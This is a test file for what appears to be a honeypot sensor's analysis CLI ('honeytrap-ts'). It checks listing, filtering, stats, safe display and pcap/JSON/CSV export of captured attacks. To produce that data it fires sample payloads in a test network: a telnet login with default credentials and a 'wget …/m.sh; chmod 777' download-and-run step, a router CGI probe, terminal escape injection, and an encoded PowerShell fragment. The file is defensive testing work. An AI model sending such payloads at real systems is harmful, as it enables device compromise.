import { execFile } from 'node:child_process'
import { cpSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { shippedTemplatesDir } from '../../src/config/paths.js'
import { distScript, runAttackPlan } from '../../src/netns/sensor-process.js'
import { describeNetns, readRows, waitFor } from '../helpers/netns-env.js'
import { startSensorFixture, type SensorFixture } from '../helpers/sensor-fixture.js'

// `honeytrap-ts attacks` on a database the real sensor writes: attacks from real clients through the NFQUEUE rule,
// then every analysis command run as an analyst runs it (the CLI, a child process), while the sensor still writes.

const run = promisify(execFile)

interface CliResult {
  readonly code: number
  readonly stdout: string
  readonly stderr: string
}

async function cli(...args: string[]): Promise<CliResult> {
  try {
    const { stdout, stderr } = await run(process.execPath, [distScript('cli/cli.js'), ...args], { timeout: 30_000, maxBuffer: 16 * 1024 * 1024, encoding: 'latin1' })
    return { code: 0, stdout, stderr }
  } catch (err) {
    const e = err as { code?: number; stdout?: string; stderr?: string }
    return { code: typeof e.code === 'number' ? e.code : -1, stdout: e.stdout ?? '', stderr: e.stderr ?? '' }
  }
}

interface Listed {
  readonly total: number
  readonly attacks: readonly { readonly id: string; readonly dst_port: number; readonly protocol: string; readonly src_ip: string }[]
}

describeNetns('offline analysis of a database the real sensor writes', () => {
  let fx: SensorFixture
  let templatesDir: string
  const sent = new Map<number, { payload: Buffer; received: Buffer }>()
  const ids = new Map<number, string>()

  const list = async (...flags: string[]): Promise<Listed> => {
    const r = await cli('attacks', 'list', '--db', fx.dbPath, '--json', ...flags)
    expect(r.code, r.stderr).toBe(0)
    return JSON.parse(r.stdout) as Listed
  }
  const ports = async (...flags: string[]): Promise<number[]> => (await list(...flags)).attacks.map((a) => a.dst_port).sort((a, b) => a - b)

  beforeAll(async () => {
    fx = await startSensorFixture({
      label: 'analysis',
      prepare: (dir) => {
        templatesDir = join(dir, 'templates')
        cpSync(shippedTemplatesDir(), templatesDir, { recursive: true })
      },
      configYaml: () => [`responder: { idleTimeoutMs: 1500, templatesDir: ${JSON.stringify(templatesDir)} }`, 'udp: { sessionIdleMs: 500 }', 'plugins: { enabled: false }', ''].join('\n'),
    })
    const { pair } = fx
    const telnet = Buffer.from(`root\r\nxc3511\r\n/bin/busybox ECCHI\r\ncd /tmp; wget http://${pair.attackerV4}/m.sh; chmod 777 m.sh\r\n`, 'latin1')
    // Terminal escapes that would retitle the window and clear the screen if printed raw: in text, and in binary.
    const http = Buffer.from(`GET /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1\r\nHost: ${pair.sensorV4}\r\nUser-Agent: \x1b]0;pwned\x07\x1b[2J\r\n\r\n`, 'latin1')
    const smb = Buffer.concat([Buffer.from('00000085ff534d4272', 'hex'), Buffer.from('\x1b]0;pwned\x07\x1b[2J', 'latin1'), Buffer.alloc(40, 0x90)])
    const sip = Buffer.from(`OPTIONS sip:100@${pair.sensorV4} SIP/2.0\r\nCSeq: 1 OPTIONS\r\n\r\n`, 'latin1')
    const powershell = Buffer.concat([Buffer.from([0x01, 0x00]), Buffer.from('powershell -nop -enc SQBFAFgA', 'utf16le')])
    const plan = [
      { type: 'tcp', host: pair.sensorV4, port: 23, sendBase64: telnet.toString('base64'), halfClose: true, waitMs: 2_500 },
      { type: 'tcp', host: pair.sensorV4, port: 80, sendBase64: http.toString('base64'), halfClose: true, waitMs: 2_500 },
      { type: 'tcp', host: pair.sensorV4, port: 445, sendBase64: smb.toString('base64'), halfClose: true, waitMs: 2_500 },
      { type: 'udp', host: pair.sensorV4, port: 5060, sendBase64: sip.toString('base64'), count: 1, waitMs: 800 },
      { type: 'tcp', host: pair.sensorV6, port: 8080, sendBase64: powershell.toString('base64'), halfClose: true, waitMs: 2_500 },
    ]
    const results = await runAttackPlan(pair, plan)
    results.forEach((result, i) => {
      const received = result['received'] ?? (result['replies'] as string[] | undefined)?.join('') ?? ''
      sent.set(plan[i]!.port, { payload: Buffer.from(plan[i]!.sendBase64, 'base64'), received: Buffer.from(String(received), 'base64') })
    })
    const rows = await waitFor(() => readRows<{ id: string; dst_port: number }>(fx.dbPath, 'SELECT id, dst_port FROM attacks'), (r) => r.length === 5, 10_000)
    for (const row of rows) ids.set(row.dst_port, row.id)
  }, 90_000)

  afterAll(async () => {
    await fx?.teardown()
  })

  it('stored all five attacks, and lists them while the sensor keeps running (a WAL reader)', async () => {
    expect(fx.sensor?.child.exitCode).toBeNull()
    expect(ids.size).toBe(5)
    const all = await list()
    expect(all.total).toBe(5)
    expect(all.attacks.map((a) => a.dst_port).sort((a, b) => a - b)).toEqual([23, 80, 445, 5060, 8080])
  })

  it('combines every kind of filter, full-text search included', async () => {
    const { pair } = fx
    expect(await ports('--port', '23')).toEqual([23])
    expect(await ports('--port', '1-100')).toEqual([23, 80])
    expect(await ports('--protocol', 'udp')).toEqual([5060])
    expect(await ports('--source', pair.attackerV6)).toEqual([8080])
    expect(await ports('--source', `${pair.attackerV4}/32`, '--protocol', 'tcp')).toEqual([23, 80, 445])
    expect(await ports('--since', '10m')).toEqual([23, 80, 445, 5060, 8080])
    expect(await ports('--until', '2020-01-01')).toEqual([])
    expect(await ports('--close-reason', 'idle-timeout', '--protocol', 'udp')).toEqual([5060])
    const minSize = sent.get(23)!.payload.length
    expect(await ports('--min-size', String(minSize))).toEqual([...sent].filter(([, s]) => s.payload.length >= minSize).map(([p]) => p).sort((a, b) => a - b))
    expect((await ports('--min-size', String(minSize))).length).toBeLessThan(5)
    expect(await ports('--hash', readRows<{ sha256: string }>(fx.dbPath, 'SELECT sha256 FROM attacks WHERE dst_port = 80')[0]!.sha256)).toEqual([80])
    expect(await ports('--contains', '\\xffSMB')).toEqual([445])
    expect(await ports('--regex', '/^get \\/cgi-bin/i')).toEqual([80])
    expect(await ports('--text', '/bin/busybox')).toEqual([23])
    expect(await ports('--text', 'chmod 777')).toEqual([23])
    expect(await ports('--match', 'wget OR powershell')).toEqual([23, 8080]) // 8080 sent UTF-16LE text
    expect(await ports('--match', 'luci AND stok', '--port', '80')).toEqual([80])
    expect(await ports('--no-downloads', '--protocol', 'udp')).toEqual([5060])
  })

  it('summarises with stats, for people and for scripts', async () => {
    const json = await cli('attacks', 'stats', '--db', fx.dbPath, '--json')
    expect(json.code, json.stderr).toBe(0)
    const stats = JSON.parse(json.stdout) as { total: number; topPorts: { port: number }[]; sources: { distinct: number; new: number } }
    expect(stats.total).toBe(5)
    expect(stats.topPorts.map((p) => p.port).sort((a, b) => a - b)).toEqual([23, 80, 445, 5060, 8080])
    expect(stats.sources).toMatchObject({ distinct: 2, new: 2 })
    const text = await cli('attacks', 'stats', '--db', fx.dbPath, '--port', '23')
    expect(text.stdout).toMatch(/^1 attack/m)
  })

  it('shows an attack with its bytes escaped: no terminal control sequence reaches the screen', async () => {
    // Mostly text: shown as text with the escapes spelled out.
    const text = await cli('attacks', 'show', ids.get(80)!, '--db', fx.dbPath)
    expect(text.code, text.stderr).toBe(0)
    expect(text.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/)
    expect(text.stdout).toContain('User-Agent: \\x1b]0;pwned\\x07\\x1b[2J')
    // Mostly binary: a hexdump, whose text column shows dots for the same bytes.
    const binary = await cli('attacks', 'show', ids.get(445)!, '--db', fx.dbPath)
    expect(binary.code, binary.stderr).toBe(0)
    expect(binary.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/)
    expect(binary.stdout).toMatch(/>>> in .*\n {4}00000000 {2}00 00 00 85 ff 53 4d 42 {2}72 1b 5d 30 3b 70 77 6e {2}\|\.\.\.\.\.SMBr\.\]0;pwn\|/)
  })

  it('exports pcap that tshark reassembles into exactly the bytes each side sent', async () => {
    for (const port of [23, 80]) {
      const file = join(fx.dir, `port-${port}.pcap`)
      const r = await cli('attacks', 'export', '--db', fx.dbPath, '--format', 'pcap', '--port', String(port), '--output', file)
      expect(r.code, r.stderr).toBe(0)
      const { stdout } = await run('tshark', ['-r', file, '-q', '-z', 'follow,tcp,raw,0'], { timeout: 60_000, maxBuffer: 8 * 1024 * 1024 })
      const data = stdout.slice(stdout.indexOf('\n', stdout.indexOf('Node 1:')) + 1).split('\n').filter((l) => l.trim() !== '' && !l.startsWith('='))
      const fromClient = data.filter((l) => !l.startsWith('\t')).map((l) => l.trim()).join('')
      const fromSensor = data.filter((l) => l.startsWith('\t')).map((l) => l.trim()).join('')
      expect(fromClient).toBe(sent.get(port)!.payload.toString('hex'))
      expect(fromSensor).toBe(sent.get(port)!.received.toString('hex'))
      expect(sent.get(port)!.received.length).toBeGreaterThan(0)
    }
  })

  it('exports JSON lines, CSV and raw attack strings', async () => {
    const jsonl = await cli('attacks', 'export', '--db', fx.dbPath, '--format', 'jsonl')
    const records = jsonl.stdout.trim().split('\n').map((l) => JSON.parse(l) as { id: string; payload_base64: string; dst_port: number })
    expect(records).toHaveLength(5)
    for (const r of records) expect(Buffer.from(r.payload_base64, 'base64').equals(sent.get(r.dst_port)!.payload)).toBe(true)
    const csv = await cli('attacks', 'export', '--db', fx.dbPath, '--format', 'csv', '--protocol', 'tcp')
    expect(csv.stdout.trim().split('\n')).toHaveLength(1 + 4)
    const rawDir = join(fx.dir, 'raw')
    const raw = await cli('attacks', 'export', '--db', fx.dbPath, '--format', 'raw', '--output', rawDir)
    expect(raw.code, raw.stderr).toBe(0)
    expect(readdirSync(rawDir).sort()).toEqual([...ids.values()].map((id) => `${id}.bin`).sort())
    for (const [port, id] of ids) expect(readFileSync(join(rawDir, `${id}.bin`)).equals(sent.get(port)!.payload)).toBe(true)
  })

  it('exits 2 naming the flag for a bad filter, 1 for an unknown attack, and never writes', async () => {
    const bad = await cli('attacks', 'list', '--db', fx.dbPath, '--port', '99999')
    expect(bad.code).toBe(2)
    expect(bad.stderr).toMatch(/--port "99999"/)
    const badMatch = await cli('attacks', 'list', '--db', fx.dbPath, '--match', 'wget http://x')
    expect(badMatch.code).toBe(2)
    expect(badMatch.stderr).toMatch(/--match .* is not a valid full-text query/)
    const missing = await cli('attacks', 'show', '01JZ0000000000000000000000', '--db', fx.dbPath)
    expect(missing.code).toBe(1)
    expect(missing.stderr).toMatch(/HT_ERR_NOT_FOUND|not in the database/)
    // Everything above was read-only: the sensor's rows are exactly the five it wrote.
    expect(readRows<{ n: number }>(fx.dbPath, 'SELECT count(*) AS n FROM attacks')[0]!.n).toBe(5)
  })
})
